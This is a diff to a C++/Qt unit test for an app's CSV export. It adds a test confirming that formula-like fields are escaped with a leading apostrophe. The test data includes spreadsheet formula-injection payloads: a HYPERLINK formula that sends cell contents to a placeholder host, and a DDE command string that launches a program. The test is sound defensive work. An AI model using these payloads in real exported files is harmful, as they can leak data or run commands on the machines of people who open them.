@@ -53,6 +53,22 @@ private:
         return parsed;
     }
 
+    // A question of session s1 skipped: no rating, no take.
+    static LibraryStore::NewAnswer skippedAnswer(int ordinal, const QString &roundTitle, const QString &questionText)
+    {
+        LibraryStore::NewAnswer skipped;
+        skipped.sessionId = u"s1"_s;
+        skipped.answeredAt = QDateTime(QDate(2026, 11, 2), QTime(10, 0), Qt::UTC);
+        skipped.roundTitle = roundTitle;
+        skipped.record.ordinal = ordinal;
+        skipped.record.roundId = u"hm"_s;
+        skipped.record.questionId = u"q%1"_s.arg(ordinal + 1);
+        skipped.record.questionText = questionText;
+        skipped.record.skipped = true;
+        skipped.record.ratingSkipped = true;
+        return skipped;
+    }
+
     QTemporaryDir m_dir;
     std::unique_ptr<LibraryStore> m_store;
 
@@ -64,17 +80,7 @@ private Q_SLOTS:
         QVERIFY(m_store);
         ReportFixture::fill(*m_store, 3, true);
         // A skipped question: no rating, no take.
-        LibraryStore::NewAnswer skipped;
-        skipped.sessionId = u"s1"_s;
-        skipped.answeredAt = QDateTime(QDate(2026, 11, 2), QTime(10, 0), Qt::UTC);
-        skipped.roundTitle = u"Hiring Manager"_s;
-        skipped.record.ordinal = 3;
-        skipped.record.roundId = u"hm"_s;
-        skipped.record.questionId = u"q4"_s;
-        skipped.record.questionText = u"Skipped, \"quoted\", question"_s;
-        skipped.record.skipped = true;
-        skipped.record.ratingSkipped = true;
-        QVERIFY(m_store->addAnswer(skipped));
+        QVERIFY(m_store->addAnswer(skippedAnswer(3, u"Hiring Manager"_s, u"Skipped, \"quoted\", question"_s)));
     }
 
     void pythonReadsOneColumnPerDimensionAndRating()
@@ -118,6 +124,36 @@ private Q_SLOTS:
         QCOMPARE(csv.value(3, u"question"_s), u"Skipped, \"quoted\", question"_s);
         QCOMPARE(csv.value(3, u"judgment_right_after"_s), QString());
         QCOMPARE(csv.value(3, u"words_per_minute"_s), QString());
+    }
+
+    // Text that a spreadsheet would run as a formula (a shared loop's question, notes, a coach's
+    // notes imported from a file) opens as text: an apostrophe before it. Numbers stay numbers.
+    void formulaLikeText_opensAsTextInASpreadsheet()
+    {
+        QTemporaryDir dir;
+        std::unique_ptr<LibraryStore> store = LibraryStore::open(dir.filePath(u"library"_s)).store;
+        QVERIFY(store);
+        SessionRecord session;
+        session.id = u"s1"_s;
+        session.mode = SessionMode::OneRound;
+        session.loopId = u"shared-loop"_s;
+        session.loopTitle = u"+Shared loop"_s;
+        session.startedAt = QDateTime(QDate(2026, 11, 2), QTime(9, 0), Qt::UTC);
+        QVERIFY(store->addSession(session));
+        QVERIFY(store->addAnswer(
+            skippedAnswer(0, u"@SUM(1+1)"_s, u"=HYPERLINK(\"http://example.invalid/?\"&A1,\"Open\")"_s)));
+        const qint64 id = store->answers({}, AnswerSort::Date, Qt::AscendingOrder).constFirst().id;
+        QVERIFY(store->setNotes(id, u"-cmd|' /C calc'!A0"_s));
+
+        std::swap(store, m_store);
+        const Parsed csv = exportAndRead({});
+        std::swap(store, m_store);
+        QCOMPARE(csv.rows.size(), 1);
+        QCOMPARE(csv.value(0, u"question"_s), u"'=HYPERLINK(\"http://example.invalid/?\"&A1,\"Open\")"_s);
+        QCOMPARE(csv.value(0, u"round"_s), u"'@SUM(1+1)"_s);
+        QCOMPARE(csv.value(0, u"loop"_s), u"'+Shared loop"_s);
+        QCOMPARE(csv.value(0, u"notes"_s), u"'-cmd|' /C calc'!A0"_s);
+        QCOMPARE(csv.value(0, u"answer_seconds"_s), u"0.0"_s);
     }
 
     void withoutNamesTheFlagIdIsWritten()
